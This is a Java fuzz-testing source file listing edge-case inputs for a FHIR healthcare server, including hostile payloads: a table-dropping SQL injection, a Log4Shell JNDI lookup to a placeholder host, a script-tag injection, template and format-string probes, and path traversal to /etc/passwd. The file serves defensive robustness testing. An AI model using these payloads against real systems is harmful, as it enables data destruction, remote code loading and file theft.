package nl.wally.fuzz;

import java.util.List;

/** Values of FHIR's types that somebody may have forgotten about, and some that are good. */
final class Oddities {
    static final List<String> TEXTS = List.of(
            "Alles goed",
            " ",
            "\u0000",
            "a\u0000b",
            "\ud800",
            "\udc00x",
            "\ufffe",
            "\u202eomgekeerd\u202c",
            "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
            "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67",
            "Z\u0335a\u0336l\u0337g\u0338o",
            "\u00a0\u200b\ufeff",
            "'; drop table hfj_resource; --",
            "%s%n%d",
            "${jndi:ldap://kanarie.invalid/x}",
            "#{7*7}",
            "<script>alert(1)</script>",
            "&lol; ]]>",
            "\\",
            "%00",
            "../../etc/passwd",
            "null",
            "WAW-0000000000",
            "(((((((((a+)+)+)+)+)+)+)+)+)!",
            "x".repeat(70_000));

    static final List<String> DATES = List.of(
            "2026-11-29",
            "0000-01-01",
            "0001-01-01",
            "9999-12-31",
            "10000-01-01",
            "-0001-01-01",
            "2026-02-30",
            "2026-13-45",
            "2024-02-29",
            "1582-10-10",
            "2026",
            "2026-11",
            "2026-11-29T24:00:00Z",
            "2026-11-29T23:59:60Z",
            "2026-11-29T10:00:00+14:00",
            "2026-11-29T10:00:00-14:01",
            "2026-11-29T10:00:00.123456789123456789Z",
            "2026-11-29T10:00",
            "2026-03-29T02:30:00+01:00",
            "9999-12-31T23:59:59.999-12:00",
            "0001-01-01T00:00:00+14:00");

    static final List<String> NUMBERS = List.of(
            "1",
            "0",
            "-1",
            "2147483648",
            "-2147483649",
            "9223372036854775808",
            "0.1e-30",
            "1E400",
            "1e2147483647",
            "0.000000000000000000000000000000000000001",
            "1.00",
            "-0.0",
            "9".repeat(90));

    static final List<String> REFERENCES = List.of(
            "Patient/1",
            "#",
            "#inner",
            "#gone",
            "urn:uuid:00000000-0000-4000-8000-000000000000",
            "urn:uuid:",
            "urn:oid:1.2.3",
            "Patient",
            "Patient/",
            "Patient/1/_history/1",
            "Patient/1/_history/",
            "Patient/" + "a".repeat(65),
            "Patient?identifier=x|y",
            "Nothing/1",
            "http://kanarie.invalid/fhir/Patient/1",
            "http://localhost:8080/fhir/Patient/1",
            "file:///etc/passwd",
            "//Patient/1",
            "Organization/practice-1",
            "PractitionerRole/wally-1",
            "PractitionerRole/gp-1",
            "Task/" + "0".repeat(64),
            "Patient/\u202e1");

    static final List<String> ADDRESSES = List.of(
            "http://waariswally.nl/fhir/StructureDefinition/waw-referral",
            "http://hl7.org/fhir/StructureDefinition/Patient",
            "http://hl7.org/fhir/StructureDefinition/data-absent-reason",
            "http://hapifhir.io/fhir/StructureDefinition/resource-placeholder",
            "http://hapifhir.io/fhir/StructureDefinition/resource-meta-source",
            "http://hapifhir.io/fhir/StructureDefinition/subscription-topic",
            "https://smilecdr.com/fhir/ns/StructureDefinition/resource-partition-id",
            "http://hl7.org/fhir/StructureDefinition/rendered-value",
            "http://hl7.org/fhir/StructureDefinition/iso21090-nullFlavor",
            "http://waariswally.nl/fhir/StructureDefinition/waw-overdue",
            "http://waariswally.nl/fhir/StructureDefinition/waw-first-contact-due",
            "http://waariswally.nl/fhir/StructureDefinition/waw-crisis|9",
            "urn:ietf:rfc:3986",
            "http://[::1",
            "|",
            "");

    static final List<String> CODES = List.of(
            "active",
            "requested",
            "completed",
            "entered-in-error",
            "inactive",
            "cancelled",
            "order",
            "fulfill",
            "final-feedback",
            "no such code",
            "\u00e9");

    /** Where an entry of a transaction may go. */
    static final List<String> PLACES = List.of(
            "Task",
            "Patient",
            "Task/1",
            "Patient?identifier=x|y",
            "Task/1/_history/1",
            "Task/1/$available-actions",
            "$validate",
            "/Task",
            "http://kanarie.invalid/fhir/Task",
            "Bundle",
            "Nothing",
            "",
            " ",
            "?",
            "../oauth2/token",
            "Task/%2e%2e",
            "Task?_id=1&_id=2",
            "urn:uuid:00000000-0000-4000-8000-000000000000");

    static final List<String> VERSIONS = List.of(
            "W/\"1\"",
            "\"1\"",
            "W/\"2\"",
            "*",
            "1",
            "W/\"",
            "W/\"-1\"",
            "W/\"99999999999999999999\"",
            "W/\"1\", W/\"2\"",
            "",
            "\u202e");

    static final List<String> QUESTIONS = List.of(
            "identifier=http://practice-1.example/patients|1",
            "identifier=|",
            "identifier=x|y&identifier=z|y",
            "identifier=x|y&name=Thea",
            "_id=1",
            "name=%",
            "identifier=%zz",
            "?identifier=x|y",
            "Patient?identifier=x|y",
            "identifier",
            "=",
            "&&&");

    private Oddities() {}
}
